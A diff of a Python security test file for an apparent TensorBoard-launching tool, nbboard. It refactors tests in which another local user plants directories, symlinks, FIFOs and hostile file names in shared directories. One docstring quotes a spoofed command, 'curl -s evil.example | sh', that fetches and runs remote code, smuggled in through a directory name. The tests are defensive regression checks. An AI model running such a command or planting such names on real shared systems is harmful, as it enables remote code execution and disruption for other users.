@@ -18,6 +18,7 @@ import tempfile
 import time
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import psutil
 import pytest
@@ -31,6 +32,11 @@ NOBODY = 65534
 needs_root = pytest.mark.skipif(
     not hasattr(os, "geteuid") or os.geteuid() != 0, reason="starting another uid's process needs root (CI is root)"
 )
+
+
+def _nobody_runs(*argv: str, check: bool = True, **kwargs: Any) -> subprocess.CompletedProcess[bytes]:
+    """Run a command as ``nobody``: what another local user does on this machine."""
+    return subprocess.run(list(argv), user=NOBODY, group=NOBODY, extra_groups=[], check=check, **kwargs)
 
 
 def _mode(path: Path) -> int:
@@ -123,7 +129,7 @@ def test_a_home_inside_a_directory_another_user_controls_is_refused(
     mine.mkdir()
     if parent == "theirs":
         where = shared_dir / "you"
-        subprocess.run(["mkdir", "-m", "777", str(where)], user=NOBODY, group=NOBODY, extra_groups=[], check=True)
+        _nobody_runs("mkdir", "-m", "777", str(where))
         culprit, why = where, f"belongs to another user (uid {NOBODY})"
     elif parent == "writable by all":
         where = shared_dir / "you"
@@ -132,7 +138,7 @@ def test_a_home_inside_a_directory_another_user_controls_is_refused(
         culprit, why = where, "is writable by every user (and not sticky"
     else:
         where = shared_dir / "you"
-        subprocess.run(["ln", "-s", str(mine), str(where)], user=NOBODY, group=NOBODY, extra_groups=[], check=True)
+        _nobody_runs("ln", "-s", str(mine), str(where))
         culprit, why = where, f"belongs to another user (uid {NOBODY})"
     os.environ["NBBOARD_HOME"] = str(where / "nbboard")
     for command in ("start", "list"):
@@ -155,7 +161,7 @@ def test_a_registry_under_your_home_is_used_even_if_another_uid_owns_the_home(
     """OpenShift runs notebooks as an arbitrary uid in a home another uid owns: the registry under that home
     is still used (only directories outside your home are held against another owner)."""
     home = shared_dir / "home"
-    subprocess.run(["mkdir", "-m", "775", str(home)], user=NOBODY, group=NOBODY, extra_groups=[], check=True)
+    _nobody_runs("mkdir", "-m", "775", str(home))
     monkeypatch.setenv("HOME", str(home))
     os.environ["NBBOARD_HOME"] = str(home / ".local" / "state" / "nbboard")
     started = nbboard_cli("start", "--logdir", str(demo_logs))
@@ -503,9 +509,7 @@ def test_an_ignore_file_planted_in_a_shared_working_directory_does_not_hang_the_
     """``nbboard start`` (and ``%board``) with no logdir reads the working directory's ``.nbboardignore``.
     Before: ``nobody`` planting it there as a FIFO made the search wait forever (a link to /dev/zero: read
     without end); now it is passed over and the usual one-line answer comes."""
-    subprocess.run(
-        [*planted, str(shared_dir / ".nbboardignore")], user=NOBODY, group=NOBODY, extra_groups=[], check=True
-    )
+    _nobody_runs(*planted, str(shared_dir / ".nbboardignore"))
     result = nbboard_cli("start", cwd=shared_dir, timeout=60)
     assert result.returncode == 2, result.stdout + result.stderr
     assert f"no event files (events.out.tfevents.*) under {shared_dir}" in result.stderr
@@ -523,7 +527,7 @@ def test_tensorboards_info_directory_planted_as_no_directory_costs_a_board_nothi
     itself before you start. Start, list and kill work as usual (the board only has no ``%tensorboard`` file)."""
     os.environ["TMPDIR"] = str(shared_dir)
     info = shared_dir / ".tensorboard-info"
-    subprocess.run([*planted, str(info)], user=NOBODY, group=NOBODY, extra_groups=[], check=True, cwd=shared_dir)
+    _nobody_runs(*planted, str(info), cwd=shared_dir)
     started = nbboard_cli("start", "--logdir", str(demo_logs))
     assert started.returncode == 0, started.stdout + started.stderr
     assert len(tensorboards_serving(demo_logs)) == 1
@@ -551,7 +555,7 @@ def test_your_tensorboard_info_directory_made_by_tensorboard_is_made_sticky(
     (board,) = tensorboards_serving(demo_logs)
     mine = info / f"pid-{board.pid}.info"
     assert mine.is_file()
-    rm = subprocess.run(["rm", "-f", str(mine)], user=NOBODY, group=NOBODY, extra_groups=[], capture_output=True)
+    rm = _nobody_runs("rm", "-f", str(mine), check=False, capture_output=True)
     assert rm.returncode != 0 and mine.is_file(), "another user deleted your board's %tensorboard file"
     assert _mode(info) == 0o1777  # everyone can still add their own
     assert nbboard_cli("kill").returncode == 0
@@ -569,9 +573,9 @@ def test_a_directory_name_planted_in_a_shared_working_directory_cannot_rewrite_t
     notebook, which honours both) showed ``nbboard start --logdir runs; curl -s evil.example | sh`` as one
     of them; now its control characters are shown escaped."""
     for name in ("runs", HOSTILE_NAME):
-        subprocess.run(["mkdir", str(shared_dir / name)], user=NOBODY, group=NOBODY, extra_groups=[], check=True)
+        _nobody_runs("mkdir", str(shared_dir / name))
         events = str(shared_dir / name / "events.out.tfevents.1.host")
-        subprocess.run(["touch", events], user=NOBODY, group=NOBODY, extra_groups=[], check=True)
+        _nobody_runs("touch", events)
     result = nbboard_cli("start", cwd=shared_dir, timeout=60)
     assert result.returncode == 2, result.stdout + result.stderr
     assert "found event files in 2 places" in result.stderr
